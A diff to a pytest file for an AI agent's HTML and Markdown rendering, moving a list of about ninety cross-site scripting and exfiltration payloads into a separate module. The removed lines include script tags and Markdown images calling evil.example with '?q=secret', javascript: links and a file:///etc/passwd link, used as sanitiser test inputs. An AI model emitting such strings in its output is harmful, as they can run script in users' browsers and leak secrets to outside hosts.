@@ -10,6 +10,7 @@ import pytest
 from fake_agent import answer, passage
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from payloads import EVERYWHERE, PAYLOADS
 from selectolax.lexbor import LexborHTMLParser
 
 from agent.state import Sentence, Source, Step
@@ -79,100 +80,9 @@ def inspect(html: str) -> LexborHTMLParser:
     return tree
 
 
-PAYLOADS = [
-    "<script>fetch('//evil.example')</script>",
-    "<ScRiPt src=https://evil.example/x.js></ScRiPt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src='https://evil.example/?q=secret'>",
-    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=https://evil.example></object>",
-    "<embed src=https://evil.example>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<link rel=prefetch href=https://evil.example/?d=1>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<base href=https://evil.example/>",
-    "<form action=https://evil.example><input name=q><button>go</button></form>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<video poster=https://evil.example/p.png></video>",
-    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
-    "<source srcset=https://evil.example/a.png>",
-    "<table background=https://evil.example/a.png><tr><td>x</td></tr></table>",
-    "<div style='background:url(https://evil.example/a.png)'>x</div>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href=https://evil.example ping=https://evil.example/p>x</a>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<body onload=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<template><script>alert(1)</script></template>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    '<!--<img src="--><img src=x onerror=alert(1)//">',
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?xml version='1.0'?><x onclick=alert(1)>",
-    "<textarea><img src=x onerror=alert(1)></textarea>",
-    "<title><img src=x onerror=alert(1)></title>",
-    "</div></div><script>alert(1)</script>",
-    '"><script>alert(1)</script>',
-    "' onmouseover='alert(1)",
-    "![secret](https://evil.example/?q=secret)",
-    "![a][1]\n\n[1]: https://evil.example/a.png",
-    "[click](https://evil.example/?q=secret)",
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt:alert(1))",
-    "[click](data:text/html;base64,PHNjcmlwdD4=)",
-    "[click](vbscript:msgbox(1))",
-    "[click](//evil.example)",
-    "[click](\\\\evil.example\\share)",
-    "[click](https://rail.example/times?a=1&b=2&secret=1)",
-    "[click](https://rail.example@evil.example/)",
-    "[click](https:evil.example)",
-    "[click](/chat/en/?thread=x)",
-    "[click](file:///etc/passwd)",
-    "[1](https://evil.example)",
-    "[1]: https://evil.example\n\nSee [1] and [1][1].",
-    "[2][1]\n\n[1]: javascript:alert(1)",
-    "[^1]: <https://evil.example>",
-    "<https://evil.example/?q=secret>",
-    "<javascript:alert(1)>",
-    "https://evil.example/?q=secret",
-    "www.evil.example",
-    "someone@evil.example",
-    "[![x](https://evil.example/a.png)](https://evil.example)",
-    "```html\n<script>alert(1)</script>\n```",
-    "`<img src=x onerror=alert(1)>`",
-    "    <script>alert(1)</script>",
-    "| a |\n|---|\n| <img src=https://evil.example> |",
-    "# <img src=x onerror=alert(1)>",
-    "> <script>alert(1)</script>",
-    "* <a href='https://evil.example'>x</a>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;img src=x onerror=alert(1)&#62;",
-    "\\<script\\>alert(1)\\</script\\>",
-    "<scr\x00ipt>alert(1)</scr\x00ipt>",
-    "\u202e<script>alert(1)</script>",
-    "＜script＞alert(1)＜/script＞",
-    "\ue000<script>\ue001alert(1)",
-    "$$\\href{javascript:alert(1)}{x}$$",
-    "\\(\\includegraphics{https://evil.example}\\)",
-    "<a\nhref=https://evil.example>x</a>",
-    "<p\n\n<img src=https://evil.example>",
-    '[a](<https://evil.example/ x> "t")',
-    '[a](https://evil.example "[1]")',
-    "<custom-element onclick=alert(1)>x</custom-element>",
-    "<thinking><img src=x onerror=alert(1)></thinking>",
-    "[a\\](https://evil.example)](https://evil.example)",
-]
-
-
 def test_there_are_enough_payloads() -> None:
     assert len(set(PAYLOADS)) >= 60
+    assert len(set(EVERYWHERE)) >= 300
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
